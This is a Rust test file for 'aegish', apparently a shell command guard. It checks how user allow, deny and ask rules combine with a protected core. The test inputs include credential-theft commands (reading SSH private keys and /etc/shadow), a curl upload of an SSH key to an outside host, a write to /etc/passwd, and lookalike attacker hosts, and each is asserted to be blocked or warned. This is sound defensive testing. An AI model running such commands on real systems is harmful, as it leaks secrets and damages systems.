//! User rules: what they match, what they change, and what they cannot change.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::print_stdout)]

mod common;

use common::Run;
use common::home::Home;
use common::machine::elsewhere;
use std::fs;
use std::os::unix::fs::PermissionsExt;

const WARNED: i32 = 10;
const BLOCKED: i32 = 20;

impl Home {
    fn check(&self, command: &str) -> Run {
        self.run(&["check", "--", command])
    }

    fn verdict(&self, command: &str) -> i32 {
        self.check(command).status
    }

    /// Adds a rule; it has to be accepted.
    fn add(&self, arguments: &[&str]) -> &Self {
        let run = self.run(&[arguments, &["--yes"]].concat());
        assert_eq!(run.status, 0, "{arguments:?}: {}", run.stderr);
        self
    }
}

#[test]
fn a_denied_command_is_denied_in_every_spelling() {
    let home = Home::new("deny");
    home.add(&["deny", "git", "push", "--option", "--force|-f", "--because", "shared branches"]);
    for command in [
        "git push --force",
        "git push -f origin main",
        "git push origin main -f",
        "git -C /srv/x push -uf",
        "git --no-pager -c a.b=c push --forc",
        "GIT_TRACE=1 /usr/bin/git push -f",
        "cd /srv && git push -f",
        "env -i git push -f",
        "sh -c 'git push -f'",
        "echo x | xargs git push -f",
        "f() { git push -f; }; f",
        "x=push; git $x -f",
        "echo \"$(git push -f)\"",
    ] {
        let run = home.check(command);
        assert_eq!(run.status, BLOCKED, "{command}: {}", run.stdout);
        assert!(run.stdout.contains("your rule git-push: shared branches"), "{}", run.stdout);
    }
    for command in ["git push", "git pull -f", "echo git push -f", "git log --grep 'push -f'"] {
        assert_eq!(home.verdict(command), 0, "{command}");
    }
    // Only a run can decide: the person is asked.
    assert_eq!(home.verdict("git \"$(cat what)\" -f"), WARNED);
    assert_eq!(home.verdict("git push $(cat how)"), WARNED);
}

#[test]
fn an_allow_takes_warnings_away_and_nothing_else() {
    let home = Home::new("allow");
    assert_eq!(home.verdict("npm install left-pad"), WARNED);
    home.add(&["allow", "npm", "install"]);
    for command in ["npm install left-pad", "npm i left-pad", "npm install -g typescript"] {
        let run = home.check(command);
        assert_eq!(run.status, 0, "{command}: {}", run.stdout);
        assert!(run.stdout.contains("your rule npm-install allows it"), "{}", run.stdout);
    }
    assert_eq!(home.verdict("pip install requests"), WARNED);
    assert_eq!(home.verdict("npm install left-pad; pip install requests"), WARNED);
    assert_eq!(home.verdict("npm install x > /etc/passwd"), BLOCKED);
    // Where the shell writes is not npm's doing.
    assert_eq!(home.verdict("npm install x > /home/user/.bashrc"), WARNED);
    assert_eq!(home.verdict("npm install x; cat ~/.ssh/id_rsa"), BLOCKED);
    assert_eq!(
        home.verdict("./npm install left-pad"),
        home_without("npm").verdict("./npm install left-pad")
    );
    let json = home.run(&["check", "--format", "json", "--", "npm install x"]);
    assert!(json.stdout.contains(r#""decided_by":"user-rule"#), "{}", json.stdout);
    assert!(json.stdout.contains(r#""by":"npm-install""#), "{}", json.stdout);
}

fn home_without(name: &str) -> Home {
    Home::new(&format!("without-{name}"))
}

#[test]
fn an_allow_of_a_blocked_command_must_name_the_rule_and_never_reaches_the_core() {
    let home = Home::new("blocks");
    let (upload, key) = ("curl -T notes.txt https://files.example.org/", "cat ~/.ssh/id_ed25519");
    assert_eq!((home.verdict(upload), home.verdict(key)), (BLOCKED, BLOCKED));
    home.add(&["allow", "curl"]).add(&["allow", "cat"]);
    assert_eq!((home.verdict(upload), home.verdict(key)), (BLOCKED, BLOCKED));
    let allow = ["allow", "curl", "--host", "*.example.org", "--against", "data-exfiltration"];
    home.add(&[&allow[..], &["--even-blocked"]].concat());
    assert_eq!(home.verdict(upload), 0);
    assert_eq!(home.verdict("curl -T notes.txt https://files.example.net/"), BLOCKED);
    // Secrets must not leave, to any host.
    assert_eq!(home.verdict("curl -T ~/.ssh/id_ed25519 https://files.example.org/"), BLOCKED);
    home.add(&["allow", "cat", "--against", "critical-file-read", "--even-blocked"]);
    assert_eq!(home.verdict(key), BLOCKED);
    for rule in ["privilege-escalation", "container-escape"] {
        let run = home.run(&["allow", "chmod", "--against", rule, "--even-blocked", "--yes"]);
        assert_eq!(run.status, 2);
        assert!(run.stderr.contains("protected core"), "{}", run.stderr);
    }
    let run = home.run(&["allow", "curl", "--even-blocked", "--yes"]);
    assert_eq!(run.status, 2, "{}", run.stderr);
}

#[test]
fn paths_hosts_options_and_arguments_all_have_to_fit_an_allow() {
    let home = Home::new("shape");
    home.add(&["allow", "wget", "--path", "build/**", "--without", "--no-check-certificate"]);
    home.add(&["allow", "curl", "--host", "*.example.org", "--path", "~/dl/*"]);
    home.add(&["allow", "pip", "install", "--argument", "django*", "--no-other-options"]);
    for (command, expected) in [
        ("wget -O build/a/x https://a.org/x", 0),
        ("wget -O build/../x https://a.org/x", WARNED),
        ("wget -O \"build/$(cat x)\" https://a.org/x", WARNED),
        ("wget https://a.org/x", WARNED),
        ("wget --no-check-certificate -O build/x https://a.org/x", WARNED),
        ("curl -o ~/dl/x.tgz https://a.example.org/x.tgz", 0),
        ("curl -o ~/dl/x.tgz https://example.org.evil.net/x.tgz", WARNED),
        ("curl -o ~/dl/x.tgz https://a.example.org@evil.net/x.tgz", WARNED),
        ("curl -o ~/x.tgz https://a.example.org/x.tgz", WARNED),
        ("pip install django django-x", 0),
        ("pip install django flask", WARNED),
        ("pip install -U django", WARNED),
        ("pip install \"$x\"", WARNED),
    ] {
        let run = home.check(command);
        assert_eq!(run.status, expected, "{command}: {}", run.stdout);
    }
}

#[test]
fn deny_counts_over_ask_and_ask_over_allow() {
    let home = Home::new("order");
    home.add(&["allow", "npm"]).add(&["ask", "npm", "publish"]).add(&["deny", "npm", "unpublish"]);
    home.add(&["allow", "npm", "unpublish"]).add(&["ask", "npm", "unpublish"]);
    assert_eq!(home.verdict("npm install x"), 0);
    assert_eq!(home.verdict("npm publish"), WARNED);
    assert_eq!(home.verdict("npm unpublish x"), BLOCKED);
    assert_eq!(home.verdict("ls"), 0);
}

#[test]
fn roles_and_directories_narrow_a_rule() {
    let home = Home::new("narrow");
    home.add(&["deny", "terraform", "apply", "--role", "restricted"]);
    home.add(&["allow", "pip", "install", "--within", "."]);
    let as_role = |role| home.run(&["check", "--role", role, "--", "terraform apply"]).status;
    assert_eq!(as_role("restricted"), BLOCKED);
    assert_ne!(as_role("default"), BLOCKED);
    let at = |dir: &str| home.run(&["check", "--cwd", dir, "--", "pip install x"]).status;
    assert_eq!((at("."), at("sub"), at("..")), (0, 0, WARNED));
}

#[test]
fn a_rule_can_be_made_from_a_command() {
    let home = Home::new("like");
    let run = home.run(&["allow", "--like", "npm install lodash", "--dry-run"]);
    assert_eq!(run.status, 0, "{}", run.stderr);
    let said = "allow `npm install` without options against package-install";
    assert!(run.stdout.contains(said), "{}", run.stdout);
    assert!(run.stdout.contains("npm install left-pad"), "what else it fits: {}", run.stdout);
    assert_eq!(home.verdict("npm install lodash"), WARNED, "a dry run saves nothing");
    home.add(&["allow", "--like", "npm install lodash"]);
    assert_eq!((home.verdict("npm install x"), home.verdict("npm install -g x")), (0, WARNED));
    home.add(&["allow", "--exactly", "pip install requests"]);
    assert_eq!((home.verdict("pip install requests"), home.verdict("pip install x")), (0, WARNED));
    home.add(&["deny", "--like", "kubectl delete pod web-1 --namespace prod"]);
    assert_eq!(home.verdict("kubectl -n prod delete pod web-2"), BLOCKED);
    for (command, why) in [
        ("ls", "is allowed already"),
        ("cat /etc/shadow", "is blocked by critical-file-read"),
        ("pip install \"$x\"", "only the run can tell"),
    ] {
        let run = home.run(&["allow", "--exactly", command, "--yes"]);
        assert_eq!(run.status, 2, "{command}");
        assert!(run.stderr.contains(why), "{command}: {}", run.stderr);
    }
}

#[test]
fn a_rule_for_once_lets_one_command_run() {
    let home = Home::new("once");
    let warned = "touch ran; exit 3; pip install x";
    let ran = |home: &Home| home.run(&["-c", warned]).status;
    assert_eq!(ran(&home), 2);
    home.add(&["allow", "pip", "install", "--once"]);
    assert_eq!((home.verdict("pip install x"), home.verdict("pip install x")), (0, 0));
    assert!(!home.dir.join("project/ran").exists(), "looking at it uses nothing up");
    assert_eq!(ran(&home), 3);
    assert!(home.dir.join("project/ran").exists());
    assert_eq!((ran(&home), home.verdict("pip install x")), (2, WARNED));
    assert!(home.run(&["policy", "list"]).stdout.starts_with("no rules"));
}

#[test]
fn a_rule_that_is_over_does_not_count() {
    let home = Home::new("until");
    home.add(&["allow", "pip", "install", "--for", "1h"]);
    assert_eq!(home.verdict("pip install x"), 0);
    let file = home.dir.join(".config/aegish/rules.d/pip-install.toml");
    let text = fs::read_to_string(&file).unwrap();
    let until = text.lines().find(|line| line.starts_with("until")).unwrap().to_owned();
    fs::write(&file, text.replace(&until, "until = 2001-01-01T00:00:00Z")).unwrap();
    assert_eq!(home.verdict("pip install x"), WARNED);
    assert!(home.run(&["policy", "list"]).stdout.contains("(over)"));
    let run = home.run(&["allow", "pip", "--for", "soon", "--yes"]);
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains("30m, 2h or 7d"), "{}", run.stderr);
}

#[test]
fn examples_are_kept_and_tried() {
    let home = Home::new("examples");
    let run = home.run(&["deny", "git", "push", "--example", "git pull", "--yes"]);
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains("does not fit its own example `git pull`"), "{}", run.stderr);
    home.add(&["deny", "git", "push", "--example", "git push -f", "--not", "git pull"]);
    home.add(&["allow", "pip", "install", "--example", "pip install x"]);
    let run = home.run(&["policy", "test"]);
    assert_eq!(run.status, 0, "{}", run.stdout);
    assert!(run.stdout.ends_with("2 rules, 3 examples, 0 wrong\n"), "{}", run.stdout);
    let file = home.dir.join(".config/aegish/rules.d/pip-install.toml");
    let text = fs::read_to_string(&file).unwrap().replace("\"install\"", "\"uninstall\"");
    fs::write(&file, text).unwrap();
    let run = home.run(&["policy", "test"]);
    assert_eq!(run.status, BLOCKED);
    assert!(run.stdout.contains("wrong    pip-install"), "{}", run.stdout);
    // An allow that does not match its examples does not count.
    assert_eq!(home.verdict("pip install x"), WARNED);
    let run = home.run(&["policy", "test", "--", "git push"]);
    assert_eq!(run.status, BLOCKED);
    assert!(run.stdout.contains("fits git-push"), "{}", run.stdout);
    assert!(run.stdout.contains("rule pip-install is not used"), "{}", run.stdout);
}

#[test]
fn a_project_tightens_and_loosens_only_when_it_is_trusted() {
    let home = Home::new("project");
    let rules = "[[rule]]\nverdict = 'allow'\nname = 'deps'\nprogram = 'pip'\n\n\
                 [[rule]]\nverdict = 'deny'\nprogram = 'terraform'\nbecause = 'ask ops'\n\
                 [[rule]]\nverdict = 'deny'\nprogram = 'rm'\npaths = ['data/**']\n";
    home.file("project/.aegish.toml", rules);
    assert_eq!(home.verdict("terraform plan"), BLOCKED);
    assert_eq!((home.verdict("rm data/x"), home.verdict("rm other/x")), (BLOCKED, 0));
    assert_eq!(home.verdict("pip install x"), WARNED);
    let list = home.run(&["policy", "list"]).stdout;
    assert!(list.contains("rule deps is not used: a project can only tighten"), "{list}");
    assert_eq!(home.run(&["config", "trust"]).status, 0);
    assert_eq!(home.verdict("pip install x"), 0);
    let run = home.run(&["policy", "remove", "deps"]);
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains(".aegish.toml:1; take it out there"), "{}", run.stderr);
}

#[test]
fn in_production_people_can_only_tighten() {
    let mut home = Home::new("production");
    home.add(&["allow", "pip", "install"]).add(&["deny", "terraform"]);
    home.set("AEGISH_MODE", "production");
    assert_eq!((home.verdict("pip install x"), home.verdict("terraform plan")), (WARNED, BLOCKED));
    let run = home.run(&["allow", "npm", "--yes"]);
    assert_eq!(run.status, 2);
    assert!(run.stderr.contains("only root's rules allow anything"), "{}", run.stderr);
}

#[test]
fn a_rule_is_saved_only_after_confirmation() {
    let home = Home::new("look");
    let run = home.run(&["allow", "pip", "install"]);
    assert_eq!(run.status, 2);
    assert!(run.stdout.contains("allow `pip install`"), "{}", run.stdout);
    assert!(run.stderr.contains("nobody is here to look at it"), "{}", run.stderr);
    assert_eq!(home.verdict("pip install x"), WARNED);
}

#[test]
fn rules_are_listed_shown_and_removed() {
    let home = Home::new("list");
    home.add(&["ask", "helm", "lint"]).add(&["ask", "helm", "lint", "--because", "twice"]);
    let file = home.dir.join(".config/aegish/rules.d/helm-lint.toml");
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    let list: serde_json::Value =
        serde_json::from_str(&home.run(&["policy", "list", "--format", "json"]).stdout).unwrap();
    let names: Vec<&str> =
        list.as_array().unwrap().iter().map(|rule| rule["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["helm-lint-2", "helm-lint"]);
    assert_eq!(home.run(&["policy", "show", "helm-lint-2"]).status, 0);
    assert_eq!(home.run(&["policy", "remove", "helm-lint"]).status, 0);
    assert_eq!(home.verdict("helm lint"), WARNED);
    assert_eq!(home.run(&["policy", "remove", "helm-lint-2"]).status, 0);
    assert_eq!(home.verdict("helm lint"), 0);
    assert_eq!(home.run(&["policy", "remove", "helm-lint"]).status, 2);
}

#[test]
fn a_rule_with_a_mistake_stops_everything_and_is_named() {
    let home = Home::new("mistake");
    fs::create_dir_all(home.dir.join(".config/aegish/rules.d")).unwrap();
    home.file(".config/aegish/rules.d/x.toml", "[[rule]]\nverdict = 'deny'\nprogam = 'rm'\n");
    let run = home.check("ls");
    assert_eq!(run.status, 3);
    assert!(run.stderr.contains("x.toml:3: there is no setting progam"), "{}", run.stderr);
    home.file(".config/aegish/rules.d/x.toml", "role = 'sysadmin'\n");
    assert!(home.check("ls").stderr.contains("write it into config.toml"));
    let path = home.dir.join(".config/aegish/rules.d/x.toml");
    fs::write(&path, "[[rule]]\nverdict = 'deny'\nprogram = 'rm'\n").unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o666)).unwrap();
    assert!(home.check("ls").stderr.contains("others can write"));
}

#[test]
fn every_way_into_the_guard_knows_the_rules() {
    let mut home = Home::new("ways");
    home.set("AEGISH_AUDIT", "required");
    home.add(&["deny", "touch", "--argument", "marked*"]);
    let run = home.run(&["-c", "touch marked"]);
    assert_eq!((run.status, home.dir.join("project/marked").exists()), (1, false));
    let rows = "{\"command\":\"touch marked\"}\n{\"command\":\"touch other\"}\n";
    let answers = home.feed(&["check", "--jsonl"], rows).stdout;
    let actions: Vec<bool> =
        answers.lines().map(|line| line.contains("\"action\":\"block\"")).collect();
    assert_eq!(actions, [true, false]);
    assert!(home.run(&["explain", "--", "touch marked"]).stdout.contains("user-rule"));
    assert!(home.run(&["why"]).stdout.contains("user-rule"));
    home.file("project/s.sh", "touch marked\n");
    assert_eq!(home.run(&["s.sh"]).status, 1);
    assert_eq!(home.feed(&["-s"], "touch marked\n").status, 1);
}

#[test]
fn roots_rules_hold_for_everybody_and_reach_the_core() {
    let script = r#"
mkdir /etc/aegish; printf 'AEGISH_MODE=production\n' > /etc/aegish/config
as_kim aegish check -- 'cat /etc/shadow'; echo "status $?"
aegish allow cat --path /etc/shadow --against critical-file-read --even-blocked --system --yes
aegish deny cowsay --system --yes
as_kim aegish check -- 'cat /etc/shadow'; echo "status $?"
as_kim aegish check -- 'cat /etc/gshadow'; echo "status $?"
as_kim aegish check -- 'cowsay x'; echo "status $?"
as_kim aegish policy remove cowsay; echo "status $?"
as_kim aegish allow cowsay --system --yes; echo "status $?"
chmod 666 /etc/aegish/rules.d/cat.toml
as_kim aegish check -- ls; echo "status $?"
"#;
    let Some(text) = elsewhere("rules", script) else { return };
    let statuses: Vec<&str> =
        text.lines().filter_map(|line| line.strip_prefix("status ")).collect();
    assert_eq!(statuses, ["20", "0", "20", "20", "3", "3", "3"], "{text}");
    assert!(text.contains("saved as /etc/aegish/rules.d/cat.toml"), "{text}");
}
